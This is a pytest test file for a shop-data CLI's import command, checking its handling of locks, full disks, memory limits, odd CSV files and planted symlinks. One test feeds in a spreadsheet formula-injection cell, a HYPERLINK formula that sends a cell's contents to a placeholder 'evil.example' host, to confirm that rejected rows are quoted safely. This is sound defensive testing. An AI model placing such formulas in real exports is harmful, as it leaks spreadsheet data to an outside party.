"""``retain import`` under faults (issue 10): other processes at the same database, locks,
a full disk, endless or huge input, hostile or odd files, and folders it cannot write to.
Every fault ends in an ``Error:`` with its cause and fix, or in an import of the good rows
that says what it could not do; never in a traceback or in lost rows."""

from __future__ import annotations

import json
import os
import shutil
import sqlite3
import subprocess
import sys
import time
from collections.abc import Iterator
from contextlib import closing, contextmanager
from pathlib import Path

import pytest
from smtp_servers import SHOP_AS_OF, add_order, make_shop

from retain_cli.imports import ImportOptions, import_file
from retain_cli.store import Store

ROOT = Path(__file__).resolve().parents[2]
SENDING = ROOT / "tests" / "campaigns" / "data" / "sending"
HEADER = "order_id,email,date,amount\n"

#: the exports here name no currency: these tests' shop is in US dollars
USD = ImportOptions(currency="USD")


def rows(db: Path, sql: str, *params: object) -> list[tuple]:
    with closing(sqlite3.connect(db)) as conn:
        return conn.execute(sql, params).fetchall()


def words(text: str) -> str:
    """``text`` with Rich's line wrapping undone."""
    return " ".join(text.split())


def retain(*args: object, timeout: float = 120) -> subprocess.CompletedProcess[str]:
    """``retain ARGS`` in a process of its own."""
    return subprocess.run(
        command(*args), capture_output=True, text=True, env=child_env(), timeout=timeout
    )


def command(*args: object) -> list[str]:
    return [sys.executable, "-m", "retain_cli", *map(str, args)]


def child_env() -> dict[str, str]:
    path = os.pathsep.join(p for p in (str(ROOT), os.environ.get("PYTHONPATH")) if p)
    return {**os.environ, "PYTHONPATH": path, "COLUMNS": "200"}


def orders_file(path: Path, count: int, prefix: str = "K") -> Path:
    lines = [f"{prefix}{i},k{i % 70}@x.com,2025-02-{1 + i % 28:02d},{i}.00" for i in range(count)]
    path.write_text(HEADER + "\n".join(lines) + "\n")
    return path


def database_files(folder: Path, name: str) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if name in p.name)


# -- a new database, and another process at it ------------------------------------------


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_failed_first_import_keeps_the_database_another_import_created(tmp_path):
    """The first import reads from a pipe the test holds open; meanwhile a second process
    imports into the same new path; then the pipe closes empty and the first import fails.
    Before, it removed "its" new database, with the other import's rows."""
    db = tmp_path / "shop.db"
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)
    (tmp_path / "b.csv").write_text(HEADER + "B-1,b@example.com,2025-01-02,10\n")
    first = subprocess.Popen(
        command("--db", db, "import", "orders", "--currency", "USD", pipe),
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        env=child_env(),
    )
    try:
        with open(pipe, "w"):  # returns once the first import has opened the pipe
            second = retain("--db", db, "import", "orders", "--currency", "USD", tmp_path / "b.csv")
            assert second.returncode == 0, second.stderr
        _out, err = first.communicate(timeout=120)
    finally:
        first.kill()
    assert first.returncode == 1
    assert words(err) == f"Error: {pipe}: the file is empty; export it again from your shop"
    assert database_files(tmp_path, "shop.db") == ["shop.db"]
    assert rows(db, "SELECT order_id FROM orders") == [("B-1",)]


def test_a_first_import_that_finds_the_database_created_meanwhile_imports_into_it(tmp_path):
    from retain_cli.imports import import_into

    db = tmp_path / "shop.db"
    (tmp_path / "a.csv").write_text(HEADER + "A-1,a@example.com,2025-01-02,10\n")
    (tmp_path / "b.csv").write_text(HEADER + "B-1,b@example.com,2025-01-03,12\n")
    other: list[int] = []

    def meanwhile(_done: int, _total: int) -> None:
        if not other:  # while the first import is being built, another one lands
            other.append(
                retain(
                    "--db", db, "import", "orders", "--currency", "USD", tmp_path / "b.csv"
                ).returncode
            )

    result = import_into(db, tmp_path / "a.csv", "orders", USD, progress=meanwhile)
    assert other == [0]
    assert (result.inserted, result.customers_created) == (1, 1)
    assert rows(db, "SELECT order_id FROM orders ORDER BY 1") == [("A-1",), ("B-1",)]
    assert rows(db, "SELECT file_name FROM imports ORDER BY id") == [("b.csv",), ("a.csv",)]
    assert database_files(tmp_path, "shop.db") == ["shop.db"]


def test_a_failed_first_import_leaves_no_file_behind(cli, tmp_path):
    (tmp_path / "bad.csv").write_text("email,email\na@example.com,b@example.com\n")
    result = cli("--db", "new.db", "import", "customers", "bad.csv")
    assert result.exit_code == 1
    assert database_files(tmp_path, "new.db") == []


# -- amounts and dates ----------------------------------------------------------------


def test_amounts_beyond_a_trillion_are_rejected_per_row(cli, db_path, tmp_path):
    (tmp_path / "o.csv").write_text(
        "order_id,email,date,amount,subtotal\n"
        "A1,a@example.com,2025-01-02,90000000000000000.00,\n"
        "A2,a@example.com,2025-01-03,92233720368547758.08,\n"
        "A3,b@example.com,2025-01-03,999999999999.99,1000000000000\n"
        "A4,c@example.com,2025-01-04,12.50,\n"
    )
    result = cli("import", "orders", "--currency", "USD", "o.csv")
    assert result.exit_code == 3, result.output
    limit = "is too large to be real (the limit is 1,000,000,000,000 units of its currency)"
    with open(tmp_path / "o.csv.rejects.csv", newline="") as handle:
        rejected = [(r["order_id"], r["line"], r["reason"]) for r in csv_rows(handle)]
    assert rejected == [
        ("A1", "2", f"amount: amount '90000000000000000.00' {limit}"),
        ("A2", "3", f"amount: amount '92233720368547758.08' {limit}"),
    ]
    with open(tmp_path / "o.csv.warnings.csv", newline="") as handle:
        warned = [(r["order_id"], r["warning"]) for r in csv_rows(handle)]
    assert warned == [("A3", f"subtotal: amount '1000000000000' {limit} (imported without it)")]
    assert rows(db_path, "SELECT order_id, total_minor, subtotal_minor FROM orders ORDER BY 1") == [
        ("A3", 99999999999999, None),
        ("A4", 1250, None),
    ]
    status = cli("status", "--format", "json")
    assert status.exit_code == 0
    assert json.loads(status.stdout)["revenue"] == 1_000_000_000_012.49


def test_a_line_item_quantity_that_is_not_a_number_is_left_out(cli, db_path, tmp_path):
    (tmp_path / "s.csv").write_text(
        "Name,Email,Created at,Total,Lineitem quantity,Lineitem name,Lineitem price,Currency\n"
        "#1,a@example.com,2025-01-02 10:00:00 +0000,5.00,1e400,Bread,5.00,USD\n"
        "#2,b@example.com,2025-01-02 11:00:00 +0000,5.00,99999999999999999999,Bun,5.00,USD\n"
    )
    result = cli("import", "orders", "--currency", "USD", "s.csv")
    assert result.exit_code == 3, result.output
    # left out: the quantity a line item has when the export gives none
    assert rows(db_path, "SELECT name, quantity FROM order_items ORDER BY 1") == [
        ("Bread", 1),
        ("Bun", 1),
    ]
    warnings = (tmp_path / "s.csv.warnings.csv").read_text()
    assert "'1e400' is too large to be real (the limit is 1,000,000,000) (imported" in warnings


def test_sums_of_huge_amounts_already_stored_do_not_crash(cli, db_path, tmp_path):
    """A database imported before amounts were bounded may hold orders near 2^63 minor
    units; SQLite's sum() stopped status, customers list, plan and send with 'integer
    overflow'."""
    with Store.open(db_path) as store:
        make_shop(store)
        add_order(store, "c07@example.org", "2025-03-01T10:00:00Z", 9 * 10**18)
        add_order(store, "c07@example.org", "2025-03-02T10:00:00Z", 9 * 10**18)
    shutil.copytree(SENDING, tmp_path / "shop")
    config = str(tmp_path / "shop" / "campaigns.yaml")
    for args in (
        ("status",),
        ("customers", "list"),
        ("customers", "list", "--format", "csv"),
        ("plan", "--config", config, "--as-of", SHOP_AS_OF),
        ("send", "hello", "--yes", "--config", config, "--as-of", SHOP_AS_OF),
    ):
        result = cli(*args)
        assert result.exit_code == 0, (args, result.output)
    assert rows(db_path, "SELECT count(*) FROM sends WHERE state = 'sent'") != [(0,)]
    # orders after the send, counted by the report
    from datetime import UTC, datetime, timedelta

    soon = (datetime.now(UTC) + timedelta(seconds=1)).strftime("%Y-%m-%dT%H:%M:%SZ")
    with Store.open(db_path) as store:
        for i in range(20):
            add_order(store, f"c{i:02d}@example.org", soon, 9 * 10**18)
            add_order(store, f"c{i:02d}@example.org", soon.replace("Z", ".5Z"), 9 * 10**18)
    time.sleep(1.5)
    result = cli("report")
    assert result.exit_code == 0, result.output


def test_order_dates_before_the_year_1000_are_rejected_and_odd_ones_flagged(cli, db_path, tmp_path):
    from datetime import UTC, datetime

    next_year = datetime.now(UTC).year + 1
    (tmp_path / "o.csv").write_text(
        HEADER + "A1,a@example.com,0001-01-01,5\n"
        "A2,b@example.com,1985-03-01,6\n"
        "A3,c@example.com,2099-03-01 10:00:00 +0100,7\n"
        "A4,d@example.com,0999-12-31 23:30:00 -0100,8\n"
        "A5,e@example.com,2025-03-01,9\n"
    )
    result = cli("import", "orders", "--currency", "USD", "o.csv")
    assert result.exit_code == 3, result.output
    assert words(result.stderr) == (
        "1 row(s) rejected (see o.csv.rejects.csv) 3 row(s) imported with a value worth "
        "checking (see o.csv.warnings.csv)"
    )
    with open(tmp_path / "o.csv.rejects.csv", newline="") as handle:
        rejected = [(r["order_id"], r["reason"]) for r in csv_rows(handle)]
    placeholder = "is not a real date (before the year 1000: a placeholder for a missing date?)"
    assert rejected == [("A1", f"date: '0001-01-01' {placeholder}")]
    assert len(rejected) == 1  # A4 is 1000-01-01 in UTC: a real, if odd, date
    with open(tmp_path / "o.csv.warnings.csv", newline="") as handle:
        warned = [(r["order_id"], r["warning"]) for r in csv_rows(handle)]
    check = "(imported as it is; check it)"
    assert warned == [
        ("A2", f"date: date '1985-03-01' is before 1990 {check}"),
        ("A3", f"date: date '2099-03-01 10:00:00 +0100' is after {next_year} {check}"),
        ("A4", f"date: date '0999-12-31 23:30:00 -0100' is before 1990 {check}"),
    ]
    assert rows(db_path, "SELECT order_id, ordered_at FROM orders ORDER BY 1") == [
        ("A2", "1985-03-01T00:00:00Z"),
        ("A3", "2099-03-01T09:00:00Z"),
        ("A4", "1000-01-01T00:30:00Z"),
        ("A5", "2025-03-01T00:00:00Z"),
    ]
    # an odd date is not a bad row: --strict takes it, but not a value left out beside it
    (tmp_path / "p.csv").write_text(HEADER + "P1,p@example.com,1985-03-01,5\n")
    assert cli("import", "orders", "--currency", "USD", "p.csv", "--strict").exit_code == 3
    (tmp_path / "q.csv").write_text(
        "order_id,email,date,amount,tax\nQ1,q@example.com,1985-03-01,5,n/a\n"
    )
    strict = cli("import", "orders", "--currency", "USD", "q.csv", "--strict")
    assert (strict.exit_code, strict.stderr) == (
        1,
        "Error: q.csv: line 2, column 'tax': cannot read amount 'n/a'; nothing was imported "
        "(--strict). Fix the value, or run without --strict to import the row without it "
        "(listed in q.csv.warnings.csv)\n",
    )


def csv_rows(handle) -> list[dict[str, str]]:
    import csv

    return list(csv.DictReader(handle))


# -- the database locked, the disk full, memory short -----------------------------------


def test_a_database_locked_longer_than_the_wait_is_an_error(cli, db_path, tmp_path, monkeypatch):
    (tmp_path / "a.csv").write_text(HEADER + "A-1,a@example.com,2025-01-02,10\n")
    (tmp_path / "b.csv").write_text(HEADER + "B-1,b@example.com,2025-01-03,12\n")
    assert cli("import", "orders", "--currency", "USD", "a.csv").exit_code == 0
    connect = sqlite3.connect
    monkeypatch.setattr(sqlite3, "connect", lambda *a, **k: connect(*a, **{**k, "timeout": 0.2}))
    holder = connect(db_path, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")  # another program writing
    try:
        result = cli("import", "orders", "--currency", "USD", "b.csv")
    finally:
        holder.execute("ROLLBACK")
        holder.close()
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {db_path} is locked: another program (another retain import or send?) has "
        "been writing to it for longer than retain waits (0.2 s); nothing from b.csv was "
        "imported (the database is as it was). Run the import again when it has finished\n"
    )
    assert rows(db_path, "SELECT order_id FROM orders") == [("A-1",)]


@contextmanager
def tmpfs(folder: Path, size: str) -> Iterator[Path]:
    """``folder`` as a tmpfs of ``size`` (mounting one needs root), unmounted after."""
    folder.mkdir(exist_ok=True)
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", f"size={size}", "tmpfs", str(folder)],
        capture_output=True,
        text=True,
        check=False,
    )
    if mounted.returncode != 0:
        pytest.skip(f"cannot mount a {size} tmpfs to fill (needs root): {mounted.stderr.strip()}")
    try:
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)


@pytest.fixture
def small_disk(tmp_path: Path) -> Iterator[Path]:
    """A folder on a 3 MB disk (an empty database with every migration applied takes about 1 MB
    of write-ahead log on its way)."""
    with tmpfs(tmp_path / "disk", "3m") as disk:
        yield disk


def test_a_full_disk_fails_a_first_import_cleanly(cli, tmp_path, small_disk):
    big = orders_file(tmp_path / "big.csv", 60_000)
    db = small_disk / "shop.db"
    result = cli("--db", str(db), "import", "orders", "--currency", "USD", str(big))
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: the disk holding {db} is full; nothing from big.csv was imported ({db} was "
        "not created). Free some space (an import needs room for the new rows and a journal "
        "of about their size) and run it again\n"
    )
    assert list(small_disk.iterdir()) == []


def test_a_disk_too_full_for_an_empty_database(cli, tmp_path):
    (tmp_path / "a.csv").write_text(HEADER + "A-1,a@example.com,2025-01-02,10\n")
    with tmpfs(tmp_path / "tiny", "16k") as disk:
        result = cli(
            "--db", str(disk / "shop.db"), "import", "orders", "--currency", "USD", "a.csv"
        )
        assert result.exit_code == 1
        assert result.stderr.startswith(f"Error: the disk holding {disk / 'shop.db'} is full; ")
        assert list(disk.iterdir()) == []


def test_a_full_disk_leaves_an_existing_database_as_it_was(cli, tmp_path, small_disk):
    db = small_disk / "shop.db"
    (tmp_path / "a.csv").write_text(HEADER + "A-1,a@example.com,2025-01-02,10\n")
    assert cli("--db", str(db), "import", "orders", "--currency", "USD", "a.csv").exit_code == 0
    big = orders_file(tmp_path / "big.csv", 40_000)
    result = cli("--db", str(db), "import", "orders", "--currency", "USD", str(big))
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: the disk holding {db} is full; nothing from big.csv was imported (the "
        "database is as it was). Free some space (an import needs room for the new rows and "
        "a journal of about their size) and run it again\n"
    )
    assert rows(db, "SELECT order_id FROM orders") == [("A-1",)]
    assert rows(db, "PRAGMA integrity_check") == [("ok",)]


@pytest.mark.skipif(not Path("/dev/zero").exists(), reason="no /dev/zero")
def test_an_endless_device_is_refused(cli, tmp_path):
    result = cli("import", "orders", "--currency", "USD", "/dev/zero")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: /dev/zero: is a device or a socket, not a file (a stream such as /dev/zero "
        "never ends); save the export to a file and import that\n"
    )
    assert database_files(tmp_path, "retain.db") == []


def test_a_file_larger_than_memory_allows_is_refused(cli, tmp_path, monkeypatch):
    from retain_cli.imports import read

    monkeypatch.setattr(read, "memory_limit", lambda: 1 << 20)
    orders_file(tmp_path / "big.csv", 80_000)
    result = cli("import", "orders", "--currency", "USD", "big.csv")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: big.csv: is 3 MB, more than half of this machine's memory, and an import "
        "holds the whole file in memory; split it into parts (each with the header line) "
        "and import each\n"
    )


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="needs named pipes")
def test_a_pipe_is_read_up_to_the_same_bound(cli, tmp_path, monkeypatch):
    import threading

    from retain_cli.imports import read

    monkeypatch.setattr(read, "memory_limit", lambda: 1 << 20)
    pipe = tmp_path / "pipe.csv"
    os.mkfifo(pipe)

    def feed() -> None:
        try:
            with open(pipe, "w") as writer:
                writer.write(HEADER)
                for i in range(100_000):
                    writer.write(f"P{i},p{i}@example.com,2025-01-02,5\n")
        except BrokenPipeError:
            pass  # the import stopped reading

    feeder = threading.Thread(target=feed)
    feeder.start()
    result = cli("import", "orders", "--currency", "USD", str(pipe))
    feeder.join(timeout=60)
    assert result.exit_code == 1
    assert result.stderr == (
        f"Error: {pipe}: more than 1 MB came through the pipe; split it into parts (each "
        "with the header line) and import each\n"
    )


@pytest.mark.skipif(sys.platform != "linux", reason="RLIMIT_AS as Linux counts it")
def test_running_out_of_memory_is_an_error_not_a_traceback(tmp_path):
    import resource

    from retain_cli.imports.read import memory_limit

    if (memory_limit() or 0) < 3 << 30:
        pytest.skip("the machine has too little memory to try a 2 GB file")
    sparse = tmp_path / "huge.csv"
    with open(sparse, "wb") as handle:
        handle.truncate(2 << 30)  # 2 GB that take no room on the disk

    def limit() -> None:
        resource.setrlimit(resource.RLIMIT_AS, (1200 << 20, 1200 << 20))

    done = subprocess.run(
        command("--db", tmp_path / "m.db", "import", "orders", "--currency", "USD", sparse),
        capture_output=True,
        text=True,
        env=child_env(),
        preexec_fn=limit,
        timeout=120,
    )
    assert done.returncode == 1
    assert words(done.stderr) == (
        f"Error: {sparse}: there is not enough memory to read it; split it into parts (each "
        "with the header line) and import each"
    )


def test_status_and_send_keep_working_while_a_long_import_runs(db_path, tmp_path):
    """A big import into a database others use (before: switched to a rollback journal,
    which made ``status`` and ``send`` fail at once with 'database is locked')."""
    with Store.open(db_path) as store:
        make_shop(store)
    shutil.copytree(SENDING, tmp_path / "shop")
    config = tmp_path / "shop" / "campaigns.yaml"
    big = orders_file(tmp_path / "big.csv", 60_000)
    lock = db_path.with_name(db_path.name + ".send.lock")
    seen: dict[str, object] = {}

    def meanwhile(done: int, _total: int) -> None:
        if done == 0 or seen:
            return  # 0: before the import's transaction
        seen["status"] = retain("status", "--format", "json")
        seen["send"] = subprocess.Popen(
            command("send", "hello", "--yes", "--config", config, "--as-of", SHOP_AS_OF),
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
            env=child_env(),
        )
        deadline = time.monotonic() + 60
        while not lock.exists() and seen["send"].poll() is None:  # type: ignore[attr-defined]
            assert time.monotonic() < deadline
            time.sleep(0.05)

    with Store.open(db_path) as store:
        assert import_file(store, big, "orders", USD, progress=meanwhile).inserted == 60_000
    status = seen["status"]
    assert status.returncode == 0, status.stderr  # type: ignore[attr-defined]
    assert json.loads(status.stdout)["orders"] == 23  # type: ignore[attr-defined]  # as before
    send = seen["send"]
    _out, err = send.communicate(timeout=120)  # type: ignore[attr-defined]
    assert send.returncode == 0, err  # type: ignore[attr-defined]
    assert rows(db_path, "SELECT count(*) FROM sends WHERE state = 'sent'")[0][0] > 0


# -- odd files --------------------------------------------------------------------------


def test_a_header_line_over_64_kib_is_read_whole(cli, db_path, tmp_path):
    extra = [f"column {i}" for i in range(9_997)]
    lines = [",".join([*extra, "order_id", "email", "date", "amount"])]
    values = ["v"] * 9_997
    lines += [",".join([*values, f"A{i}", f"p{i}@x.com", "2025-01-02", "5"]) for i in range(3)]
    (tmp_path / "wide.csv").write_text("\n".join(lines) + "\n")
    assert len(lines[0]) > 65_536
    result = cli("import", "orders", "--currency", "USD", "wide.csv", "--format", "json")
    assert result.exit_code == 0, result.output
    assert rows(db_path, "SELECT order_id FROM orders ORDER BY 1") == [("A0",), ("A1",), ("A2",)]


def test_a_rejected_row_with_a_huge_field_is_listed(cli, db_path, tmp_path):
    note = "n" * 200_000  # past the csv module's 128 KiB field limit
    (tmp_path / "c.csv").write_text(f"email,note\nbad,{note}\nok@example.com,short\n")
    result = cli("import", "customers", "c.csv")
    assert result.exit_code == 3, result.output
    with open(tmp_path / "c.csv.rejects.csv", newline="") as handle:
        import csv

        csv.field_size_limit(1 << 20)
        assert [(r["note"] == note, r["reason"]) for r in csv.DictReader(handle)] == [
            (True, "email: invalid email 'bad'")
        ]


def test_cr_only_line_endings_are_read(cli, db_path, tmp_path):
    (tmp_path / "mac.csv").write_bytes(
        b"order_id,email,date,amount\rA1,a@example.com,2025-01-02,5\rA2,bad,2025-01-03,6\r"
        b"A3,c@example.com,2025-01-04,7\r"
    )
    result = cli("import", "orders", "--currency", "USD", "mac.csv")
    assert result.exit_code == 3, result.output
    assert rows(db_path, "SELECT order_id FROM orders ORDER BY 1") == [("A1",), ("A3",)]
    assert (tmp_path / "mac.csv.rejects.csv").read_bytes() == (
        b"order_id,email,date,amount,line,reason\r\n"
        b"A2,bad,2025-01-03,6,3,email: invalid email 'bad'\r\n"
    )


def test_duplicate_headers_are_an_error_naming_the_column(cli, db_path, tmp_path):
    (tmp_path / "same.csv").write_text("email,email\na@example.com,b@example.com\n")
    result = cli("import", "customers", "same.csv")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: same.csv: columns 1 and 2 are both named 'email', so which one holds the email "
        "is unclear; rename one of them in the header line, then import again (with --map "
        "email=<new name> if the email is in the renamed one)\n"
    )
    (tmp_path / "case.csv").write_text("Email,name,email\na@example.com,Ann,b@example.com\n")
    result = cli("import", "customers", "case.csv")
    assert result.exit_code == 1
    assert result.stderr == (
        "Error: case.csv: columns 1 and 3 ('Email', 'email') can each be the email; pass --map "
        "email=<column> with the exact name of the one to read, e.g. --map email='Email'\n"
    )
    assert not db_path.exists()
    assert cli("import", "customers", "case.csv", "--map", "email=email").exit_code == 0
    assert rows(db_path, "SELECT email FROM customers") == [("b@example.com",)]


# -- the rejects and warnings files -----------------------------------------------------


@pytest.fixture
def read_only_folder(tmp_path: Path) -> Iterator[Path]:
    """A folder this process cannot write to, with an export in it (a read-only tmpfs when
    root, whom permissions do not stop)."""
    folder = tmp_path / "exports"
    folder.mkdir()
    export = HEADER + "A1,a@example.com,2025-01-02,5\nA2,bad,2025-01-03,6\n"
    export += "A3,c@example.com,1985-01-01,7\n"
    if os.geteuid() != 0:
        (folder / "o.csv").write_text(export)
        folder.chmod(0o555)
        yield folder
        folder.chmod(0o755)
        return
    mounted = subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=1m", "tmpfs", str(folder)], capture_output=True
    )
    if mounted.returncode != 0:
        pytest.skip("root cannot mount a tmpfs here, and permissions do not stop root")
    try:
        (folder / "o.csv").write_text(export)
        subprocess.run(["mount", "-o", "remount,ro", str(folder)], check=True)
        yield folder
    finally:
        subprocess.run(["umount", "-l", str(folder)], check=False)


def test_a_read_only_export_folder_imports_the_good_rows(cli, db_path, tmp_path, read_only_folder):
    export = read_only_folder / "o.csv"
    result = cli("import", "orders", "--currency", "USD", str(export))
    assert result.exit_code == 3, result.output
    assert rows(db_path, "SELECT order_id FROM orders ORDER BY 1") == [("A1",), ("A3",)]
    said = words(result.stderr)
    assert said.startswith("1 row(s) rejected 1 row(s) imported with a value worth checking ")
    assert (
        f"Warning: the 1 rejected row(s) could not be listed in {read_only_folder}/o.csv."
        "rejects.csv (" in said
    )
    assert (
        "); to get them, run the import again with --rejects-dir DIR (what was imported stays "
        "as it is)" in said
    )
    assert "Warning: the 1 row(s) imported with a warning could not be listed in" in said
    # the way out: the files elsewhere; the database is unchanged by the second run
    (tmp_path / "out").mkdir()
    again = cli("import", "orders", "--currency", "USD", str(export), "--rejects-dir", "out")
    assert again.exit_code == 3
    assert words(again.stderr) == (
        "1 row(s) rejected (see out/o.csv.rejects.csv) 1 row(s) imported with a value worth "
        "checking (see out/o.csv.warnings.csv)"
    )
    assert (
        (tmp_path / "out" / "o.csv.rejects.csv")
        .read_text()
        .endswith("A2,bad,2025-01-03,6,3,email: invalid email 'bad'\n")
    )
    assert rows(db_path, "SELECT count(*) FROM orders") == [(2,)]
    missing = cli("import", "orders", "--currency", "USD", str(export), "--rejects-dir", "nowhere")
    assert (missing.exit_code, missing.stderr) == (
        2,
        "Error: --rejects-dir nowhere: no such folder\n",
    )


def test_a_symlink_planted_at_the_rejects_name_is_replaced_not_followed(cli, tmp_path):
    target = tmp_path / "precious.txt"
    target.write_text("do not overwrite\n")
    (tmp_path / "o.csv").write_text(HEADER + "A1,bad,2025-01-02,5\n")
    (tmp_path / "o.csv.rejects.csv").symlink_to(target)
    (tmp_path / "o.csv.warnings.csv").symlink_to(target)
    assert cli("import", "orders", "--currency", "USD", "o.csv").exit_code == 3
    assert target.read_text() == "do not overwrite\n"
    rejects = tmp_path / "o.csv.rejects.csv"
    assert not rejects.is_symlink()
    assert rejects.read_text().endswith("A1,bad,2025-01-02,5,2,email: invalid email 'bad'\n")
    assert (rejects.stat().st_mode & 0o777) == 0o666 & ~current_umask()
    # no warnings: the stale name is removed (the link itself, not its target)
    assert not (tmp_path / "o.csv.warnings.csv").is_symlink()
    assert target.exists()
    assert [p.name for p in tmp_path.iterdir() if p.name.endswith(".tmp")] == []


def current_umask() -> int:
    mask = os.umask(0)
    os.umask(mask)
    return mask


def test_rejects_cells_that_a_spreadsheet_would_run_are_quoted(cli, db_path, tmp_path):
    (tmp_path / "c.csv").write_text(
        "email,first_name,phone,note\n"
        'not-an-email,=HYPERLINK("http://evil.example/"&B2),+44 20 7946 0000,@SUM(A1)\n'
        "ok@example.com,-Ann,\t12,'=kept\n"
    )
    result = cli("import", "customers", "c.csv")
    assert result.exit_code == 3, result.output
    rejects = tmp_path / "c.csv.rejects.csv"
    assert rejects.read_text() == (
        "email,first_name,phone,note,line,reason\n"
        'not-an-email,"\'=HYPERLINK(""http://evil.example/""&B2)",\'+44 20 7946 0000,\'@SUM(A1),'
        "2,email: invalid email 'not-an-email'\n"
    )
    # what an import of the quoted cells stores: the values as they were
    assert rows(db_path, "SELECT first_name, phone, note FROM customers") == [
        ("-Ann", "12", "=kept")
    ]
    fixed = tmp_path / "fixed.csv"
    fixed.write_text(rejects.read_text().replace("not-an-email", "fixed@example.com"))
    assert cli("import", "customers", str(fixed)).exit_code == 0
    assert rows(
        db_path, "SELECT first_name, phone, note FROM customers WHERE email = 'fixed@example.com'"
    ) == [('=HYPERLINK("http://evil.example/"&B2)', "+44 20 7946 0000", "@SUM(A1)")]
    # --raw-csv: the cells as they are
    assert cli("import", "customers", "c.csv", "--raw-csv").exit_code == 3
    assert (
        rejects.read_text()
        .splitlines()[1]
        .startswith(
            'not-an-email,"=HYPERLINK(""http://evil.example/""&B2)",+44 20 7946 0000,@SUM(A1),'
        )
    )
